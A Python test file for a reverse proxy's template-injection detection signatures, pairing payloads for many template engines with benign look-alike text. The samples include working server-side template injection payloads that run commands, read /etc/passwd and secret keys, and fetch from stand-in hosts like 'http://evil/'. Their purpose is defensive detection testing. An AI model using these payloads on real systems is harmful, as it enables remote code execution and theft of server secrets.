"""Template injection: what its signatures are found in."""

from __future__ import annotations

from collections.abc import Mapping

import pytest
from hypothesis import given
from hypothesis import strategies as st

from revproxy.filters.inspect.packs.template import TEMPLATE_INJECTION
from revproxy.filters.inspect.signature import Signature
from revproxy.filters.inspect.value import Part, Value

from . import Samples, check_pack

SAMPLES: Mapping[str, Samples] = {
    "ssti-01": Samples(
        (
            "{{1+1}}",
            "{{=7*7}}",
            "{{:7*7}}",
            "{{7+7}}x",
            "{{@7*7}}",
            "{{7*7}}",
        ),
        (
            "{{ name }} bought 7*7 things",
            "$x^{{2+3}}$",
            "{{ price * 2 }}",
            "{{name}}",
            "7*7=49",
            '{"a": {"b": 7}}',
            "{{cite|1998|2+}}",
        ),
    ),
    "ssti-02": Samples(
        (
            "~{7*7}",
            "@(7*7)",
            "@(6+5)",
            "@(1+2)",
            "${7*7}",
            "*{7*7}",
        ),
        (
            "echo ${1:-8080} ${HOME}",
            "costs ${price} + 7*7",
            "`Total: ${a + b}`",
            "me@(work)",
            "The total is ${7*7} when computed",
            "#{name} is #{age}",
            "100% {of} 5*5",
        ),
    ),
    "ssti-03": Samples(
        (
            "@(7*7)",
            "<%= 7+'7' %>",
            "{7*7}",
            "[[7*7]]",
            "<%= 7*7 %>",
            "<%=7*7%>",
        ),
        (
            "<%= user.name %>",
            "@(2 for 1)",
            "{1}",
            "[1, 2] * 3",
            "5 % 3 + 7 * 7",
            "{x * y}",
            "{7}",
        ),
    ),
    "ssti-04": Samples(
        (
            "{% set a = cycler.__init__ %}",
            '{% with a = request["application"]["\\x5f\\x5fglobals\\x5f\\x5f"] %}{% endwith %}',
            "{{joiner.__init__}}",
            "{{url_for.__globals__}}",
            "{{get_flashed_messages.__globals__}}",
            "{{request.application.__globals__}}",
        ),
        (
            "def __init__(self):",
            "{{ user.attributes }}",
            "{% for item in cart.items %}",
            "{{ page.romance }}",
            'if __name__ == "__main__":',
            '{{ list | selectattr("ok") }}',
        ),
    ),
    "ssti-05": Samples(
        (
            "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
            "{{ url_for.__globals__.current_app.config }}",
            "{{''.__class__.__mro__[2].__subclasses__()}}",
            "{{().__class__.__base__}}",
            "{{lipsum.__globals__['os'].popen('id').read()}}",
            "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        ),
        (
            "print(self.__class__.__name__)",
            'class A: __slots__ = ("a",)',
            "super().__init__(name)",
            'if __name__ == "__main__": main()',
            '__all__ = ["x"]',
            "the globals and the builtins",
            "C.__mro__ is the order",
        ),
    ),
    "ssti-06": Samples(
        (
            "name={{config}}",
            "{{handler.settings}}",
            "{{_self}}",
            "{{app.request.query.filter(0,'id',1024,{'options':'system'})}}",
            "{{config}}",
            "{{ config.items() }}",
            "{{self}}",
        ),
        (
            "{{request.headers.X-Request-Id}}",
            "Go to {{settings}} and choose {{config}}",
            "{{ config.site_name }}",
            "Your {{request}} was received",
            "{{ app }} by {{ company }}",
            "{{ session.date }}",
            "{{ settings.language }}",
            "{{ self.title }}",
            "{{ configuration }}",
        ),
    ),
    "ssti-07": Samples(
        (
            '<%= system("id") %>',
            "<%= IO.popen('id').readlines() %>",
            '<% Runtime.getRuntime().exec("id"); %>',
            "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}",
            "${process.mainModule.require('child_process').execSync('id')}",
            "${require('child_process').execSync('id')}",
        ),
        (
            '{ system("pause"); return 0; }',
            "{{ system.name }}",
            "the exec (and the eval) of Python",
            "${evaluation} ({count})",
            "`${filesystem} (ext4)`",
            "{% if system %}",
        ),
    ),
    "ssti-08": Samples(
        (
            "{% csrf_token %}",
            "{% debug %}",
            "{% autoescape None %}",
            "{%print(lipsum|string|list)%}",
            "{% load log %}{% get_admin_log 10 as log %}",
            "{% import os %}",
        ),
        (
            '{% include "header.html" %}',
            '{% extends "base.html" %}',
            '{% import "forms.html" as forms %}',
            "{% block content %}{% endblock %}",
            "{{ include.text }}",
            "{% load static %}",
        ),
    ),
    "ssti-09": Samples(
        (
            '{{_self.env.setCache("ftp://evil:21")}}{{_self.env.loadTemplate("x")}}',
            "{{['id']|filter('system')}}",
            "{{['id']|map('passthru')|join}}",
            "{{['id',\"\"]|sort('system')}}",
            "{{[0]|reduce('system','id')}}",
            "{{['id']|filter('passthru')}}",
        ),
        (
            "cache.setCache('key', v) or loadTemplate('row')?",
            "grid.getFilter('name') is undefined",
            '{{ items|map(attribute="name")|join(", ") }}',
            "{{ list|sort }}",
            "cat file | sort | join x",
            "{{ myself.environment }}",
            "{{ 'LOGIN'|filter }}",
            "self . environment",
        ),
    ),
    "ssti-10": Samples(
        (
            "${product?api.class.protectionDomain}",
            "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
            '${"freemarker.template.utility.Execute"?new()("id")}',
            "${.version}",
            '<#include "/etc/passwd">',
            '<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("id") }',
            "<#assign x=7*7>${x}",
        ),
        (
            "REST or an API? API.",
            "Which one? New (2026) model",
            "Old or new? New.",
            "Is it new? (yes)",
            '<#if user??>Hello ${user.name!"friend"}</#if>',
            "<#list items as item>${item}</#list>",
            "What is new?",
            "${.now",
            "/search?new=1&api=2",
            "Why? Eval later",
        ),
    ),
    "ssti-11": Samples(
        (
            '$class.inspect("java.lang.Runtime")',
            '#include("/etc/passwd")',
            '#parse("/etc/passwd")',
            "#set($x=7*7)$x",
            '#set ($run=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))',
            '#set($e="e")$e.getClass().forName("java.lang.Runtime")',
        ),
        (
            "#set($name = $user.name)",
            "#set the table",
            "$user.name and $user.class",
            "#include <stdio.h>",
            "a hashtag #set (of things)",
            "#parse the letter",
            "#if($x) $x #end",
            "price $set = 5",
        ),
    ),
    "ssti-12": Samples(
        (
            "<%= `id` %>",
            "<%= Dir.entries('/') %>",
            "<% require 'open3' %>",
            "<%= ENV %>",
            "<%= self %>",
            "<%= process.env %>",
        ),
        (
            "<%= this.title %>",
            "<%= session[:user] %>",
            "<%= object.name %> in a partial",
            "<%= user.name %>",
            "<% if admin %>",
            "100 <% 5",
            "<%= link_to 'Home', root_path %>",
            "5 <= 7 % 3",
            "<% end %>",
            "<%= render 'form' %>",
        ),
    ),
    "ssti-13": Samples(
        (
            "{php}echo `id`;{/php}",
            "{php}system('id');{/php}",
            "{system('ls')}",
            '{self::getStreamVariable("file:///etc/passwd")}',
            '{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"x",self::clearConfig())}',
            "{=system('id')}",
        ),
        (
            'int main() { system("pause"); return 0; }',
            "{$name} lives in {$city}",
            "{if $admin}yes{/if}",
            '{include file="header.tpl"}',
            "{php is a language}",
            "{literal}{/literal}",
        ),
    ),
    "ssti-14": Samples(
        (
            '{{#with "constructor" as |c|}}{{/with}}',
            "{{#with (string.sub.apply 0 codelist)}}",
            '{{#with (lookup this "constructor")}}',
            '{{lookup (lookup this "constructor") "name"}}',
            "{{this.constructor.constructor}}",
            '{{#with "constructor" as |c|}}',
        ),
        (
            "{{#each items}}{{this.name}}{{/each}}",
            "{{#if premium}}Thank you{{else}}Upgrade{{/if}}",
            "{{#with author}}{{name}}{{/with}}",
            "{{lookup people 0}}",
            "with a string as |x|",
            "{{this.title}}",
        ),
    ),
    "ssti-15": Samples(
        (
            "- global['process']",
            "= global.process.mainModule.require('child_process')",
            "- var x = root.process",
            '{{:"x".toString.constructor.call({},"return global.process.mainModule")()}}',
            "<%= global.process.mainModule.require('child_process').execSync('id') %>",
            "{{= global.process.mainModule.require('child_process').execSync('id') }}",
            "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        ),
        (
            "- global.json is missing",
            "- process. Then wait",
            "- global. Everyone sees it",
            "`Listening on ${process.env.PORT}`",
            "{{ process.name }} is required",
            "require('express')",
            "${requirement}",
            "- processes are listed",
            "class A { constructor() { this.x = 1 } }",
        ),
    ),
    "ssti-16": Samples(
        (
            '@Environment.GetEnvironmentVariable("PATH")',
            '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")',
            '@(System.IO.File.ReadAllText("/etc/passwd"))',
            "@{ var x = 1; }",
            '@{System.Diagnostics.Process.Start("x");}',
        ),
        (
            "@Inject UserService users",
            "@Autowired, @Inject or @Resource?",
            "mail me@system.example",
            '@Html.ActionLink("Home", "Index")',
            "@Model.Name",
            "@{user} wrote",
            "using System.IO;",
            "follow @file.reader",
        ),
    ),
    "ssti-17": Samples(
        (
            '${new ProcessBuilder("id").start()}',
            "#{T(java.lang.Math).random()}",
            '${"id".execute()}',
            '${new java.lang.ProcessBuilder("id").start()}',
            "${''.getClass().forName('java.lang.Runtime')}",
            "${product.getClass().getProtectionDomain().getCodeSource().getLocation()}",
            '__${T(java.lang.Runtime).getRuntime().exec("id")}__::main',
        ),
        (
            "${new Intl.NumberFormat('de').format(x)}",
            "${new Date().getFullYear()}",
            "`Hello ${name}`",
            "${user.className}",
            "#{name}, born #{year}",
            "new Date()",
            "import java.lang.Math",
            "[[Main Page]] (edit)",
            "Map<String, Class> x = new HashMap<>();",
        ),
    ),
    "ssti-18": Samples(
        (
            "${applicationScope}",
            "${sessionScope.user}",
            '${pageContext.request.getSession().setAttribute("admin",true)}',
            "${facesContext.getExternalContext()}",
            "%{#context['x']}",
            '${#_memberAccess["allowStaticMethodAccess"]=true}',
        ),
        (
            "%{name} has %{count} messages",
            "${request.url}",
            "${session.name}",
            "${header.title}",
            "the application scope",
            "${params}",
            "%(name)s",
        ),
    ),
    "ssti-19": Samples(
        (
            "{% set x = beans.get('y') %}",
            "{{____int3rpr3t3r____}}",
            "{{ request.getClass() }}",
            "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
            "{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance()}}",
            "{{ [].getClass() }}",
        ),
        (
            "{{ student.class }}",
            "{% if class %}",
            "{{ java.version }}",
            "{{ for name }}",
            "public Class<?> getClass()",
            "{{ invoice.total }}",
        ),
    ),
    "ssti-20": Samples(
        (
            '{{printf "%s" "x"}}',
            '{{html "<script>"}}',
            '{{.System "ls"}}',
            '{{ .Exec "id" }}',
            "{{.}}",
            "{{ . }}",
        ),
        (
            '{{ define "main" }}\n{{ .Content }}\n{{ end }}\n{{ $name := "web" }}',
            '{{ printf "%s-%s" .Release.Name .Chart.Name }}',
            "docker ps --format '{{.Names}}'",
            "{{ range .Items }}{{ .Name }}{{ end }}",
            "{{.System}}",
            "{{ html }}",
            "{{ call_number }}",
            "{{ print_date }}",
            "in Go: {{.}} is the dot",
        ),
    ),
    "ssti-21": Samples(
        (
            '&lt;!--#exec cmd="id"--&gt;',
            '<!--#set var="x" value="y"-->',
            '<!--#exec cmd="id" -->',
            '<!--#include virtual="/etc/passwd" -->',
            '<!--#echo var="DOCUMENT_ROOT" -->',
            "<!--#printenv -->",
        ),
        (
            "<!-- #1 in the list -->",
            "<!-- include the header -->",
            "<!--more-->",
            "<!--#header-->",
            "#exec and #include",
            "<!-- echo -->",
        ),
    ),
    "ssti-22": Samples(
        (
            "<esi:remove>",
            '<esi:inline name="/x" fetchable="yes">',
            '<esi:include src="http://evil/"/>',
            "<esi:vars>$(HTTP_COOKIE)</esi:vars>",
            'x<esi:assign name="a" value="b"/>',
            "<!--esi $(HTTP_COOKIE) -->",
        ),
        (
            "<email:x>",
            "<p>esi: a firm</p>",
            "$(document).ready(go)",
            "$(HOME)/bin",
            "<!-- esi -->",
            "$(query)",
        ),
    ),
    "ssti-23": Samples(
        (
            "${{<%[%'\"}}%\\.",
            "{{'\"}}%>",
            "#{<%=x",
            "<%{{x",
            "${{'\"}}",
            "${{<%[%'\"}}%\\",
        ),
        (
            "${{ secrets.TOKEN }}",
            "<% if a %>{{ b }}",
            "style={{ color: 'red' }}",
            "${a}${b}",
            "@(a) and {b}",
            "{{a}}{{b}}",
        ),
    ),
    "ssti-24": Samples(
        (
            '{{"foo".upper()}}',
            "{{'abc'.toUpperCase()}}",
            '{{ "a"~"b" }}',
            "{{[]|length}}",
            "{{ 7|add:7 }}",
            "{{ 7*7 }}",
        ),
        (
            "{{ 5 | number:'1.2-2' }}",
            "{{ 1234.5 | currency }}",
            "{{ 'LOGIN.TITLE' | translate }}",
            '{{ "now" | date: "%Y" }}',
            "{{ 5 }}",
            "{{name}}",
            "x = {{}}",
            "{{ item.name }}",
            '{"a":{"b":[]}}',
        ),
    ),
    "ssti-25": Samples(
        (
            "{% raw open('/etc/passwd').read() %}",
            "{{ messages.storages.0.signer.key }}",
            "{{ settings.SECRET_KEY }}",
            "{% include '/etc/passwd' %}",
            '{% include "../../../etc/passwd" %}',
            "<%= File.open('/etc/passwd').read %>",
        ),
        (
            "{{ app_secret_key }}",
            "${{ secrets.APP_SECRET_KEY }}",
            "cat /etc/passwd",
            "os: ${{ matrix.os }}",
            "{{ secret }}",
            '{% import "os.html" as os %}',
            '{ "os": "linux" }',
            "import os",
        ),
    ),
    "ssti-26": Samples(
        (
            "{% include 'admin/base.html' %}",
            "#set($x='')##",
            "{{g}}",
            "{{session}}",
            "{{dump(app)}}",
            "{{app.request.server.all|join(',')}}",
        ),
        (
            "Dear {{ name }}",
            "{{name}}",
            "100 % {of}",
            "#foreach of us",
            "<# comment #>",
            "{{> header}}",
            "{ a: 1 }",
        ),
    ),
    "ssti-27": Samples(
        (
            '{math equation="(1+2)"}',
            '{fetch file="/etc/passwd"}',
            '{include file="/etc/passwd"}',
            "<%= 7 * 7 %>",
            "<%= Response.Write(1) %>",
            '<%@ page import="java.io.*" %>',
        ),
        (
            "Dear ${name}",
            "#{name}",
            "5 <%",
            "{title}",
            "@user {x}",
            "*bold* {x}",
            "th: text",
        ),
    ),
    "ssti-28": Samples(
        (
            '{{define "T1"}}x{{end}}{{template "T1"}}',
            "@{7*7}",
            "%{7*7}",
            "${T(java.lang.System).getenv()}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "[[${T(java.lang.Runtime)}]]",
        ),
        (
            "{a: 1}",
            "$5 {x}",
            "{{}}",
            "100 %",
            "[[x]]",
            "{ { a } }",
            "${}",
        ),
    ),
    "ssti-29": Samples(
        (
            "{$smarty.version}",
            "{$smarty.template}",
            "{if system('id')}{/if}",
            "{if phpinfo()}{/if}",
            "<%import os%>",
            "#{request.getClass().getClassLoader()}",
        ),
        (
            "a {b} c",
            "$5 and 6%",
            "#1 <b>",
            "[1] [2]",
            "x@y.example",
            "2 * 3",
            "f(x)",
        ),
    ),
}

ORDINARY = (
    "Dear {{name}}, your order {{ order.number }} of {{ order.total | currency }} has shipped.",
    "Hello {{ user.first_name }} {{ user.last_name }}!",
    "{{#if premium}}Thank you{{else}}Upgrade{{/if}} {{#each items}}{{this.name}}{{/each}}",
    "{% if customer.name %}Hi {{ customer.name | capitalize }}{% endif %}",
    "{% for item in order.items %}<li>{{ item.title }} - {{ item.price | money }}</li>{% endfor %}",
    "{{> header}} {{{body}}} {{! comment }}",
    "Hallo %{name}, %{count} neue Nachrichten",
    "${firstName} ${lastName}, welcome to ${company}",
    "const url = `${base}/users/${id}?page=${page + 1}`;",
    "console.log(`Listening on ${process.env.PORT || 3000}`);",
    "<%= user.name %> has <%= pluralize(count, 'message') %>",
    '{% include "header.html" %} {% extends "base.html" %} {% block content %}{% endblock %}',
    "$E=mc^{2}$ and $x^{{2}}$, \\frac{{a}}{{b}}",
    "The formula is 7*7=49, or (7*7) per box @ 5 each",
    "style={{ color: 'red', margin: 10 }}",
    "docker ps --format '{{.Names}}\\t{{.Status}}'",
    "kubectl get pods -o go-template='{{range .items}}{{.metadata.name}}{{end}}'",
    "runs-on: ${{ matrix.os }} with token ${{ secrets.GITHUB_TOKEN }}",
    "echo ${HOME:-/root} ${1:-8080} ${#array[@]} ${var//a/b}",
    "body { color: #{$primary}; margin: #{$x}px }",
    'puts "Hello #{name}, you are #{age} years old"',
    '#include <stdio.h> int main() { system("pause"); return 0; }',
    "price @(2 for 1) #1 {special}",
    '{"query":"{ user(id: 1) { name } }"}',
    "{{ 'LOGIN.TITLE' | translate }}",
    "{{ 'Hello %name%'|trans({'%name%': user.name}) }}",
    "[[Main Page]] and [[File:x.png|thumb]] {{cite web|url=http://x.org|title=A}}",
    "{{Infobox person|name=Ada|born=1815}} {{main|History}} {{convert|10|km|mi}}",
    "#set the table, #if you can",
    '<#if user??>Hello ${user.name!"friend"}</#if>',
    "self: {{ self.title }}? rather {{ page.title }}",
    '{{ "now" | date: "%Y" }}',
    "{{ config.site_name }} is at {{ site.url }}",
    "@{user} mentioned @(someone)",
    'func f() { return map[string]interface{}{"a": 1} }',
    "{{name}} {{email}} {{company}} {{request}} {{app}} {{session}} {{user}}",
    "100% {of} people *{like} ~{it}",
)


def test_pack() -> None:
    """S-60: each signature of template injection is found in its attacks, and not in what looks like them."""
    check_pack(TEMPLATE_INJECTION, SAMPLES)


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text(text: str) -> None:
    """S-60: nothing of paranoia 1 is found in what people write, paste and upload."""
    value = Value(Part.VALUE, "text", text)
    signatures = [each for each in TEMPLATE_INJECTION if isinstance(each, Signature) and each.paranoia == 1]
    assert [each.id for each in signatures if each.found_in(value) is not None] == []


@given(
    st.text(st.characters(min_codepoint=0, max_codepoint=0x2FFF), max_size=200),
    st.sampled_from(["{{", "${", "<%", "{%", "@(", "#set($", "__class__"]),
)
def test_any_text(text: str, opening: str) -> None:
    """S-53: any text is searched, alone and after what an attack begins with, and nothing raises."""
    for value in (Value(Part.VALUE, "q", text), Value(Part.COOKIE, "c", opening + text)):
        for each in TEMPLATE_INJECTION:
            if isinstance(each, Signature):
                each.found_in(value)
